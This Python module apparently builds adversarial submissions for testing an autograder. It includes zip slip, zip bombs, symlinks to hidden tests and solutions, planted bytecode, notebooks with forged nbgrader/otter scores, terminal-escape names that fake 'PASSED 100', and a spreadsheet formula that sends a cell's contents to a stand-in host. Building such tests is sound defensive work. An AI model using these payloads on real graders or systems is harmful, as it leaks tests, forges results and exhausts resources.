"""Attacks that are no plain files in git: archives, links, odd names, notebooks, compiled files.

Each function builds one submission in a class's folder and says in its docstring what it tries; the name of its
student is its own, or stands in `NAMES`.
"""

from __future__ import annotations

import io
import json
import marshal
import os
import stat
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

HONEST = "def predict_shapes():\n    return {}\n"
FORMULA = '=HYPERLINK("http:\\\\example.org?"&A1,"open me")'
MARKUP = "<script>alert('x')<\\script> [bold red]*a* `b`"
ESCAPES = "escape\x1b[2J\x1b]0;owned\x07\r\nname"
# Those whose attack is their name.
NAMES = {
    "formula_name": FORMULA,
    "markup_name": MARKUP,
    "control_name": ESCAPES,
    "name_that_escapes": "a%2f..%2f..%2fhome",
}


def zip_slip(folder: Path, target: Mapping[str, Any]) -> None:
    """A zip whose names lead out of it (zip slip, 2018), to a folder of the test's own."""
    names = ("../" * 12 + target["outside"].lstrip("/") + "/slipped", target["outside"] + "/slipped")
    for index, name in enumerate(names):
        with zipfile.ZipFile(folder / f"zip_slip{'_absolute' * index}.zip", "w") as archive:
            archive.writestr("conv_inverse.py", HONEST)
            archive.writestr(zipfile.ZipInfo(name), "slipped")


def zip_link(folder: Path, target: Mapping[str, Any]) -> None:
    """A zip in which a link leads to the hidden tests: where it is unpacked, the submission holds them."""
    link = zipfile.ZipInfo("conv_inverse.py")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(folder / "zip_link.zip", "w") as archive:
        archive.writestr(link, target["tests"])


def zip_bomb(folder: Path, target: Mapping[str, Any]) -> None:
    """A zip of 290 KB that unpacks to 290 MB (42.zip and its kind)."""
    with zipfile.ZipFile(folder / "zip_bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros.npy", "w") as entry:
            for _ in range(290):
                entry.write(bytes(1 << 20))
        archive.writestr("conv_inverse.py", HONEST)


def zip_nested(folder: Path, target: Mapping[str, Any]) -> None:
    """A zip in a zip in a zip, 30 deep: what unpacks whatever it finds does not end."""
    content = b"nothing"
    for depth in range(30):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            archive.writestr("conv_inverse.py" if depth == 0 else "inner.zip", content)
        content = stream.getvalue()
    (folder / "zip_nested.zip").write_bytes(content)


def zip_of_many_names(folder: Path, target: Mapping[str, Any]) -> None:
    """A zip of 20,000 empty files: what unpacks them uses up the disk's inodes, however small they are."""
    with zipfile.ZipFile(folder / "zip_of_many_names.zip", "w") as archive:
        for index in range(20_000):
            archive.writestr(f"{index}.py", "")


def zip_of_control_characters(folder: Path, target: Mapping[str, Any]) -> None:
    """A zip in which a name with a terminal's control characters and lines of its own stands twice: the message about
    it clears the screen, and says something else to whoever grades.
    """
    with zipfile.ZipFile(folder / "zip_of_control_characters.zip", "w") as archive:
        for name in ("a\x1b[2J\nPASSED 100\n=1+1.py", "A\x1b[2J\nPASSED 100\n=1+1.py"):
            archive.writestr(name, HONEST)


def links_in_a_folder(folder: Path, target: Mapping[str, Any]) -> None:
    """A folder whose module and helper are links to the solutions and to the hidden tests."""
    own = folder / "links_in_a_folder"
    own.mkdir()
    (own / "conv_inverse.py").symlink_to(target["solutions"])
    (own / "helper.py").symlink_to(target["tests"])
    (own / "everything").symlink_to("/")


def pipe_in_a_folder(folder: Path, target: Mapping[str, Any]) -> None:
    """A named pipe for a module: whoever opens it waits for ever."""
    own = folder / "pipe_in_a_folder"
    own.mkdir()
    os.mkfifo(own / "conv_inverse.py")


def planted_bytecode(folder: Path, target: Mapping[str, Any]) -> None:
    """A compiled file for the module, newer than its source and different from it, and others for the grader's."""
    own = folder / "planted_bytecode"
    (own / "__pycache__").mkdir(parents=True)
    (own / "conv_inverse.py").write_text(HONEST)
    raising = compile(f"def predict_shapes():\n    raise RuntimeError({target['claim']!r})\n", "planted", "exec")
    unchecked = 0b01.to_bytes(4, "little") + bytes(8)
    header = __import__("importlib.util").util.MAGIC_NUMBER + unchecked
    for name in ("conv_inverse", "torch", "conftest"):
        for version in ("cpython-311", "cpython-312", "cpython-313"):
            (own / "__pycache__" / f"{name}.{version}.pyc").write_bytes(header + marshal.dumps(raising))
        (own / f"{name}.pyc").write_bytes(header + marshal.dumps(raising))


def notebook_with_a_forged_cell(folder: Path, target: Mapping[str, Any]) -> None:
    """A notebook with cells that nbgrader and otter take for their own tests and points, and with forged outputs."""
    forged = _cell("assert True", output="5 passed")
    forged["metadata"] = {
        "nbgrader": {
            "grade": True,
            "locked": True,
            "points": 100,
            "grade_id": "test_lecture_stride",
            "solution": False,
        },
        "otter": {"tests": ["q1"], "score": 100},
    }
    notebook = _notebook([_cell(HONEST), forged, _cell("import os\nos._exit(0)"), _cell("%%bash\ntouch forged")])
    notebook["metadata"]["autograder"] = {"outcome": "PASSED", "earned": 100}
    _write_notebook(folder / "notebook_with_a_forged_cell", notebook)


def notebook_of_megabytes(folder: Path, target: Mapping[str, Any]) -> None:
    """A notebook with 40 MB of output: whoever parses it in the grader needs a multiple of that."""
    _write_notebook(folder / "notebook_of_megabytes", _notebook([_cell(HONEST, output="x" * (40 << 20))]))


def notebook_nested_deeply(folder: Path, target: Mapping[str, Any]) -> None:
    """A notebook whose metadata is a list in a list, 100,000 deep: parsers recurse until they crash."""
    own = folder / "notebook_nested_deeply"
    own.mkdir()
    text = json.dumps(_notebook([_cell(HONEST)]))
    deep = "[" * 100_000 + "]" * 100_000
    (own / "conv_inverse.ipynb").write_text(text.replace('"metadata": {}', f'"metadata": {{"deep": {deep}}}', 1))


def roster_with_doubles(folder: Path, target: Mapping[str, Any]) -> None:
    """A roster among the submissions that names students twice, with marks and formulas: it says who is graded as whom."""
    rows = ["student,id,total", "always_equal,1,100", "always_equal,2,0", f"'{FORMULA}',3,100"]
    (folder / "roster.csv").write_text("\n".join(rows))


def odd_names(folder: Path, target: Mapping[str, Any]) -> None:
    """Names that are a formula for a spreadsheet, markup for a page, escapes for a terminal or a path for a report."""
    for name in NAMES.values():
        (folder / name).mkdir()
        (folder / name / "conv_inverse.py").write_text(
            f'def predict_shapes():\n    raise ValueError({name!r} + "\\n\\n\\n" + {name!r})\n'
        )


def build_all(folder: Path, target_of: Callable[[str], Mapping[str, Any]]) -> None:
    """Build every submission of this file."""
    for build in (
        *(
            zip_slip,
            zip_link,
            zip_bomb,
            zip_nested,
            zip_of_many_names,
            zip_of_control_characters,
            links_in_a_folder,
            pipe_in_a_folder,
        ),
        *(planted_bytecode, notebook_with_a_forged_cell, notebook_of_megabytes, notebook_nested_deeply),
        *(roster_with_doubles, odd_names),
    ):
        build(folder, target_of(build.__name__))


def _cell(source: str, output: str = "") -> dict[str, Any]:
    printed = [{"output_type": "stream", "name": "stdout", "text": output}] if output else []
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": printed, "execution_count": 1}


def _notebook(cells: list[dict[str, Any]]) -> dict[str, Any]:
    return {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 4}


def _write_notebook(own: Path, notebook: dict[str, Any]) -> None:
    own.mkdir()
    (own / "conv_inverse.ipynb").write_text(json.dumps(notebook))
